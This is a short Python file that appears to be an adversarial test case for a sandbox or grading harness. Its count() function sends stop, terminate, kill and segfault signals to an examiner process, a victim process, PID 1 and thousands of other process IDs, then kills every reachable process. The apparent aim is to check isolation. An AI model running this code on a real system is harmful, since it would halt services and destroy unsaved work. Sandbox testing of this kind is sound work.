"""Sends every signal to every process number, to all at once, and stops and kills process 1.

Must: reach nobody outside; its own work may fail.
"""

FAMILY = "harm"
FAST = True
TARGET = "words"

import os
import signal

from places import EXAMINER, VICTIM


def send(target, number):
    try:
        os.kill(target, number)
    except OSError:
        return


def count(text):
    for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL, signal.SIGSEGV):
        for target in (EXAMINER, VICTIM, EXAMINER + 1, 1, 2, *range(3, 32768, 7)):
            if target != os.getpid():
                send(target, number)
    send(-1, signal.SIGKILL)
    send(0, signal.SIGKILL)
